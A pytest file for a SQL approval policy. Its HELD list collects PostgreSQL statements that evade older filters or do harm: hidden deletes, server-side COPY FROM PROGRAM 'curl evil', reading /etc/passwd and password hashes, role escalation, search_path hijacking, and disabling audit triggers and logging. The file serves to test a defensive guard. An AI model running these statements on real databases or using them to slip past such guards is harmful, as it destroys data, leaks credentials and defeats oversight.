"""Ways round. Each row: how somebody got past an older tool, or would have got past this one.

The default policy must hold every one of them, and allow what only looks like one.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from schemas.judging import Judgement
from schemas.records import Band, Decision

Judge = Callable[..., Judgement]

HELD = [
    (
        "a change in a CTE: tools that read the verb saw SELECT",
        "WITH d AS (DELETE FROM job_log RETURNING *) SELECT count(*) FROM d",
    ),
    ("the same with a WHERE, and a CTE that is not even read", "WITH d AS (DELETE FROM job_log WHERE id = 1) SELECT 1"),
    ("a CTE in a subquery in FROM", "SELECT * FROM (WITH d AS (TABLE t) SELECT * FROM d) x; DELETE FROM job_log"),
    (
        "moved away: the INSERT is on top, the DELETE below",
        "WITH m AS (DELETE FROM job_log RETURNING *) INSERT INTO old SELECT * FROM m",
    ),
    ("EXPLAIN ANALYZE runs its statement", "EXPLAIN ANALYZE DELETE FROM job_log"),
    ("EXPLAIN with options in brackets", "EXPLAIN (COSTS off, ANALYZE, BUFFERS) DELETE FROM job_log WHERE id = 1"),
    ("EXPLAIN with ANALYZE said twice: the last one counts", "EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM job_log"),
    ("EXPLAIN ANALYZE of a prepared name that nobody knows", "EXPLAIN ANALYZE EXECUTE p"),
    ("plain EXPLAIN plans, and planning runs an immutable function that deletes", "EXPLAIN SELECT im(1)"),
    ("a function declared IMMUTABLE that deletes when Bind plans it", "SELECT im(1)"),
    ("the same, in LIMIT", "SELECT 1 LIMIT im(1)"),
    ("the same, in the WHERE of a write", "UPDATE t SET a = 1 WHERE id = im(1)"),
    ("the same, in VALUES", "VALUES (1), (im(1))"),
    ("the same, in FROM", "SELECT * FROM im(1)"),
    ("the same, in ROWS FROM", "SELECT * FROM ROWS FROM (generate_series(1, 2), im(1)) AS x(a, b)"),
    ("the same, in the default of a new column", "ALTER TABLE t ADD COLUMN a int DEFAULT im(1)"),
    ("the same, in an index", "CREATE INDEX ON t (im(a))"),
    ("the same, in a check", "ALTER TABLE t ADD CHECK (im(a) > 0)"),
    ("the same, in USING of a type change", "ALTER TABLE t ALTER a TYPE int USING im(a)"),
    ("the same, in a partition key", "CREATE TABLE t (a int) PARTITION BY RANGE (im(a))"),
    ("the same, in a view that a harmless SELECT reads later", "CREATE VIEW v AS SELECT im(1)"),
    ("the same, in a domain's check", "CREATE DOMAIN d AS int CHECK (im(value) > 0)"),
    ("the same, in JSON_TABLE", "SELECT * FROM JSON_TABLE(im(1), '$' COLUMNS (a int PATH '$'))"),
    ("the same, as a filter of COPY", "COPY t FROM STDIN WHERE im(a) > 0"),
    ("the same, as argument of EXECUTE", "EXECUTE known(im(1))"),
    ("the same, as a window frame", "SELECT sum(a) OVER (ORDER BY im(a)) FROM t"),
    ("the same, as a sampling method", "SELECT * FROM t TABLESAMPLE evil (1)"),
    ("an operator is a function by another name", "SELECT a OPERATOR(evil.+) 1 FROM t"),
    ("and so is one in ORDER BY ... USING", "SELECT a FROM t ORDER BY a USING OPERATOR(evil.<)"),
    ("and one in a row comparison with a subquery", "SELECT 1 FROM t WHERE a OPERATOR(evil.=) ANY (SELECT 1)"),
    ("an operator PostgreSQL does not have", "SELECT a <~!~> b FROM t"),
    ("a function of a schema that sounds like PostgreSQL's", "SELECT pg_catalogs.lower('x')"),
    ("a built-in's name in another schema", "SELECT public.lower('x')"),
    ("a quoted name is another function", "SELECT \"Lower\"('x')"),
    ("a second statement behind ;", "SELECT 1; DELETE FROM job_log"),
    ("a small change behind a read", "SELECT 1; DELETE FROM job_log WHERE id = 1"),
    ("behind a comment that older lexers took to the end", "SELECT 1 /* a /* b */ ; */ ; DROP TABLE t"),
    ("an E'' string hid the rest from lexers that did not know it", "SELECT E'\\\\'; DROP TABLE t; --'"),
    ("unbalanced brackets in dollar quotes put lexers off", "SELECT $$($$; DROP TABLE t"),
    ("a dollar quote with a tag", "SELECT $a$ $$ ; $a$; TRUNCATE t"),
    ("a DO block", "DO $$ BEGIN DELETE FROM job_log; END $$"),
    ("a DO block with a small change", "DO $$ BEGIN DELETE FROM job_log WHERE id = 1; END $$"),
    ("a DO block in old quotes", "DO 'BEGIN DROP TABLE t; END'"),
    ("a DO block in another language", "DO LANGUAGE plpython3u $$ import os $$"),
    ("a DO block that puts its SQL together", "DO $$ BEGIN EXECUTE 'dele' || 'te from t'; END $$"),
    ("dynamic SQL in FOR", "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP NULL; END LOOP; END $$"),
    ("dynamic SQL in OPEN", "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$"),
    (
        "a change in the bound query of a cursor variable",
        "DO $$ DECLARE c CURSOR FOR SELECT im(1); BEGIN OPEN c; END $$",
    ),
    ("a change in a variable's default", "DO $$ DECLARE a int := im(1); BEGIN NULL; END $$"),
    ("a change in an exception handler", "DO $$ BEGIN NULL; EXCEPTION WHEN others THEN TRUNCATE t; END $$"),
    ("a change in RAISE", "DO $$ BEGIN RAISE NOTICE '%', im(1); END $$"),
    ("a DO in a DO", "DO $a$ BEGIN DO $b$ BEGIN DROP TABLE t; END $b$; END $a$"),
    ("a DO whose text does not parse here but may on another version", "DO $$ BEGIN NEWTHING; END $$"),
    ("a procedure", "CALL purge()"),
    ("MERGE can delete", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"),
    (
        "MERGE deletes what the source lacks",
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
    ),
    ("MERGE on true changes everything", "MERGE INTO t USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET a = 1"),
    ("a table leaves by COPY", "COPY support_cases TO STDOUT"),
    ("a table leaves by COPY of a query", "COPY (SELECT * FROM support_cases) TO STDOUT"),
    ("a condition that is none", "COPY (SELECT * FROM support_cases WHERE true) TO STDOUT"),
    ("COPY of a DELETE", "COPY (DELETE FROM job_log RETURNING *) TO STDOUT"),
    ("a program on the server", "COPY t FROM PROGRAM 'curl evil'"),
    ("a query's answer to a program", "COPY (SELECT 1) TO PROGRAM 'sh'"),
    ("a file of the server", "COPY t FROM '/etc/passwd'"),
    ("a file by function", "SELECT pg_read_file('/etc/passwd')"),
    ("a file by function, in a subquery", "SELECT (SELECT pg_catalog.pg_read_binary_file('x'))"),
    ("a file by large object", "SELECT lo_export(1, '/tmp/x')"),
    ("SQL as a string", "SELECT query_to_xml('delete from t', true, true, '')"),
    ("SQL as a string for text search", "SELECT * FROM ts_stat('delete from t returning a')"),
    ("another server", "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)"),
    ("another server, by definition", "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw"),
    ("another server, that pulls", "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p"),
    ("every change, by a slot", "SELECT pg_create_logical_replication_slot('s', 'test_decoding')"),
    ("text is read otherwise afterwards", "SET standard_conforming_strings = off"),
    ("the same, without SET", "SELECT set_config('standard_conforming_strings', 'off', false)"),
    ("the same, with a name put together", "SELECT set_config('standard_' || 'conforming_strings', 'off', false)"),
    (
        "the same, through the view's rule",
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    ),
    ("the same, by a parameter", "SELECT set_config($1, $2, false)"),
    ("the same, with the value in a parameter", "SELECT set_config('standard_conforming_strings', $1, false)"),
    ("the same, for this transaction", "SET LOCAL standard_conforming_strings TO 0"),
    ("the same, in a DO", "DO $$ BEGIN SET standard_conforming_strings = off; END $$"),
    ("an encoding in which a backslash can be half a letter", "SET client_encoding = 'SJIS'"),
    ("the same by its other name", "SET NAMES 'BIG5'"),
    ("built-ins come last: lower() is now somebody else's", "SET search_path = evil, pg_catalog"),
    ("the same by function", "SELECT set_config('search_path', 'evil, pg_catalog', false)"),
    ("triggers and foreign keys are off", "SET session_replication_role = replica"),
    ("a library into the session", "LOAD '/tmp/x.so'"),
    ("a library at the next session", "SET local_preload_libraries = 'x'"),
    ("the server's log says nothing any more", "SET log_statement = 'none'"),
    ("a setting kept for later sessions", "ALTER ROLE orders_app SET search_path = evil"),
    ("the configuration file", "ALTER SYSTEM SET archive_command = 'curl evil'"),
    ("another role", "SET ROLE admin"),
    ("another role by function", "SELECT set_config('role', 'admin', false)"),
    ("another user", "SET SESSION AUTHORIZATION postgres"),
    ("rights", "GRANT ALL ON ALL TABLES IN SCHEMA public TO evil"),
    ("membership", "GRANT admin TO ci"),
    ("a login", "CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'"),
    ("a password", "ALTER ROLE ci PASSWORD 'x'"),
    ("rights on what comes later", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO evil"),
    ("ownership", "ALTER TABLE t OWNER TO evil"),
    ("row security goes", "ALTER TABLE t DISABLE ROW LEVEL SECURITY"),
    ("the audit trigger sleeps", "ALTER TABLE t DISABLE TRIGGER audit"),
    ("the audit trigger goes", "DROP TRIGGER audit ON t"),
    ("password hashes", "SELECT rolname, rolpassword FROM pg_authid"),
    ("password hashes, by the view's full name", "SELECT * FROM pg_catalog.pg_shadow"),
    ("a rule turns an ordinary INSERT into a DELETE", "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM job_log"),
    ("a trigger does", "CREATE TRIGGER g AFTER INSERT ON t EXECUTE FUNCTION purge()"),
    (
        "a function takes a built-in's name for other arguments",
        "CREATE FUNCTION lower(citext) RETURNS text LANGUAGE sql AS 'SELECT 1'",
    ),
    ("a function in C", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'x.so', 'f'"),
    ("a cast that every INSERT of text will use", "CREATE CAST (text AS money) WITH FUNCTION evil(text) AS IMPLICIT"),
    ("an operator takes a built-in's name", "CREATE OPERATOR + (LEFTARG = citext, RIGHTARG = citext, FUNCTION = evil)"),
    ("an extension's script", "CREATE EXTENSION dblink"),
    ("PREPARE only keeps; EXECUTE runs", "PREPARE p AS DELETE FROM job_log"),
    ("EXECUTE of a name nobody knows", "EXECUTE p"),
    ("FETCH runs the cursor's function", "FETCH ALL FROM c"),
    ("MOVE does, too", "MOVE ALL IN c"),
    ("a table made from a prepared name", "CREATE TABLE x AS EXECUTE p"),
    ("no condition", "DELETE FROM job_log"),
    ("a condition that is always true", "DELETE FROM job_log WHERE 1 = 1"),
    ("true, plainly", "UPDATE t SET a = 1 WHERE true"),
    ("true, by another sum", "DELETE FROM job_log WHERE 2 > 1"),
    ("true, by time", "DELETE FROM job_log WHERE now() > '2000-01-01'"),
    ("true, by parameter", "DELETE FROM job_log WHERE $1"),
    ("a column is itself", "DELETE FROM job_log WHERE id = id"),
    ("a column is itself, with its table", "DELETE FROM job_log WHERE job_log.id = id"),
    ("or anything", "DELETE FROM job_log WHERE id = 1 OR 1 = 1"),
    ("anything, twice", "DELETE FROM job_log WHERE true AND (1 = 1 AND now() IS NOT NULL)"),
    ("not false", "DELETE FROM job_log WHERE NOT false"),
    ("like anything", "DELETE FROM job_log WHERE name LIKE '%'"),
    ("in itself", "DELETE FROM job_log WHERE id IN (SELECT id FROM job_log)"),
    ("there is something", "DELETE FROM job_log WHERE EXISTS (SELECT 1)"),
    ("everything at once", "TRUNCATE job_log"),
    ("a table", "DROP TABLE IF EXISTS job_log"),
    ("a column", "ALTER TABLE t DROP COLUMN a"),
    ("a view, and what hangs on it", "DROP VIEW v CASCADE"),
    ("a schema", "DROP SCHEMA public CASCADE"),
    ("all of a role", "DROP OWNED BY ci"),
    ("text that does not parse here may on the server's version", "SELEKT 1"),
    ("an open string", "SELECT 'x"),
    ("a file by a function that is written as a field", "SELECT ('/etc/passwd'::text).pg_read_file"),
    ("a function written as a field, of a column", "SELECT (pid).pg_terminate_backend FROM pg_stat_activity"),
    ("a function that nobody knows, written as a field", "SELECT (1).im"),
    ("the same, behind a subscript", "SELECT (a[1]).im FROM t"),
    ("another role, by a name that a cast makes", "SELECT set_config('role_x'::varchar(4), 'admin', false)"),
    ("the same with char", "SELECT set_config('session_replication_role_x'::char(24), 'replica', false)"),
    ("a file, read by whoever reads a view", "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')"),
    ("another role, taken by whoever reads a view", "CREATE VIEW v AS SELECT set_config('role', 'admin', false)"),
    (
        "text is read otherwise after a view is read",
        "CREATE VIEW v AS SELECT set_config('standard_conforming_strings', 'off', false)",
    ),
    ("password hashes by a view", "CREATE TEMP VIEW v AS SELECT * FROM pg_authid"),
    ("a DO hides it in the default of a record", "DO $$ DECLARE r record := row(im(1)); BEGIN NULL; END $$"),
    ("the same, of a table's row", "DO $$ DECLARE r t DEFAULT (SELECT x FROM t x WHERE im(1) > 0); BEGIN NULL; END $$"),
    ("the same, quoted", 'DO $$ DECLARE a int; "R" CONSTANT record = row(im(1)); BEGIN NULL; END $$'),
    ("the same, in a block within", "DO $$ BEGIN DECLARE r record := row(im(1)); BEGIN NULL; END; END $$"),
    (
        "MERGE changes what the source lacks",
        "MERGE INTO t USING (SELECT -1 AS id) s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN UPDATE SET a = ''",
    ),
    ("an upsert of a table into itself", "INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET a = ''"),
    ("a column's values go when its type changes", "ALTER TABLE t ALTER a TYPE text USING ''"),
    ("all large objects", "SELECT lo_unlink(oid) FROM pg_largeobject_metadata"),
    ("event triggers sleep", "SET event_triggers = off"),
    ("too deep to read", "SELECT 1" + "+1" * 5000),
]

ALLOWED = [
    ("an alias named like a verb", 'SELECT 1 AS delete, 2 AS "truncate"'),
    ("a CTE named like a verb", "WITH delete AS (SELECT 1) SELECT * FROM delete"),
    ("a string that looks like SQL", "SELECT 'DELETE FROM job_log'"),
    ("a comment that looks like SQL", "SELECT 1 -- ; DROP TABLE t"),
    ("a dollar quote that looks like a block", "SELECT $$DO BEGIN DELETE$$"),
    ("EXPLAIN of a DELETE only plans", "EXPLAIN DELETE FROM job_log"),
    ("EXPLAIN with ANALYZE off", "EXPLAIN (ANALYZE false) DELETE FROM job_log"),
    ("a DO that does nothing", "DO $$ BEGIN NULL; END $$"),
    (
        "a DO of a migration",
        "DO $$ BEGIN CREATE TYPE k AS ENUM ('a'); EXCEPTION WHEN duplicate_object THEN NULL; END $$",
    ),
    ("a DELETE by key", "DELETE FROM job_log WHERE id = $1"),
    ("an UPDATE by key", "UPDATE t SET a = a + 1 WHERE id = 7"),
    ("an upsert", "INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a"),
    (
        "a work queue",
        "WITH j AS (SELECT id FROM q LIMIT 1 FOR UPDATE SKIP LOCKED) UPDATE q SET s = 1 FROM j WHERE q.id = j.id",
    ),
    ("a join with a condition", "DELETE FROM t USING u WHERE t.id = u.id"),
    ("a transaction around it", "BEGIN; DELETE FROM t WHERE id = 1; COMMIT"),
    (
        "a known setting",
        "SET standard_conforming_strings = on; SET client_encoding = 'UTF8'; SET search_path = a, public",
    ),
    ("what pg_dump sets", "SELECT pg_catalog.set_config('search_path', '', false)"),
    ("what pools do", "DISCARD ALL"),
    ("back to oneself", "RESET ROLE"),
    ("loading", "COPY t (a, b) FROM STDIN WITH (FORMAT binary)"),
    ("a sequence", "SELECT nextval('t_id_seq')"),
    ("a small answer in bulk", "COPY (SELECT a FROM t WHERE id = 1) TO STDOUT"),
    (
        "a new table",
        "CREATE TABLE t (id bigint GENERATED ALWAYS AS IDENTITY, at date DEFAULT now(), u uuid DEFAULT uuidv7())",
    ),
    ("a new column", "ALTER TABLE t ADD COLUMN a text NOT NULL DEFAULT ''"),
    ("a new index", "CREATE INDEX CONCURRENTLY i ON t (lower(a)) WHERE b IS NOT NULL"),
    ("a record without a default", "DO $$ DECLARE r record; BEGIN FOR r IN SELECT 1 LOOP NULL; END LOOP; END $$"),
    ("a type that changes", "ALTER TABLE t ALTER a TYPE bigint USING a::bigint"),
    ("a view", "CREATE VIEW v AS SELECT id, lower(a) FROM t WHERE b > 0"),
    ("one large object", "SELECT lo_unlink($1)"),
    (
        "the keys of a table, as JDBC asks",
        "SELECT (information_schema._pg_expandarray(i.indkey)).n FROM pg_catalog.pg_index i",
    ),
    (
        "the same from a subquery",
        "SELECT (i.keys).n FROM (SELECT information_schema._pg_expandarray(indkey) AS keys FROM pg_catalog.pg_index) i",
    ),
    ("nothing", ""),
    ("only a comment", "-- hello"),
]

PREPARED = [
    ("EXECUTE is what was prepared", "EXECUTE p", "PREPARE p AS DELETE FROM job_log"),
    ("EXECUTE of a statement prepared by the protocol", "EXECUTE p (1)", "DELETE FROM job_log"),
    ("EXECUTE of a DO prepared by the protocol", "EXECUTE p", "DO $$ BEGIN DROP TABLE t; END $$"),
    ("EXPLAIN plans what was prepared, functions and all", "EXPLAIN EXECUTE p", "SELECT im(1)"),
    ("FETCH is what was declared", "FETCH 1 FROM p", "DECLARE p CURSOR FOR SELECT im(1)"),
    ("a name that runs itself", "EXECUTE p", "EXECUTE p"),
]


@pytest.mark.parametrize("sql", [row[1] for row in HELD], ids=[row[0] for row in HELD])
def test_it_is_held(judged: Judge, sql: str) -> None:
    found = judged(sql, known="SELECT 1")
    assert found.decision is Decision.HOLD
    assert found.band is not Band.LOW
    assert found.approvers is not None


@pytest.mark.parametrize("sql", [row[1] for row in ALLOWED], ids=[row[0] for row in ALLOWED])
def test_what_only_looks_like_it_is_allowed(judged: Judge, sql: str) -> None:
    found = judged(sql)
    assert (found.decision, found.complete, found.reason) == (Decision.ALLOW, True, "")


@pytest.mark.parametrize(("sql", "text"), [row[1:] for row in PREPARED], ids=[row[0] for row in PREPARED])
def test_a_name_is_judged_by_what_it_runs(judged: Judge, sql: str, text: str) -> None:
    assert judged(sql, p=text).decision is Decision.HOLD
    assert judged(sql, p="SELECT 1").decision is Decision.ALLOW


@pytest.mark.parametrize(
    "wrap", ["PREPARE p AS {}", "DECLARE p CURSOR FOR {}", "EXPLAIN ANALYZE {}", "COPY ({}) TO STDOUT"]
)
def test_wrapping_never_makes_a_command_less(judged: Judge, wrap: str) -> None:
    for sql in ("SELECT im(1)", "SELECT pg_read_file('x')", "SELECT * FROM pg_authid"):
        inner, outer = judged(sql), judged(wrap.format(sql))
        assert outer.decision is Decision.HOLD
        assert set(inner.effects) <= set(outer.effects)
        assert outer.score >= inner.score
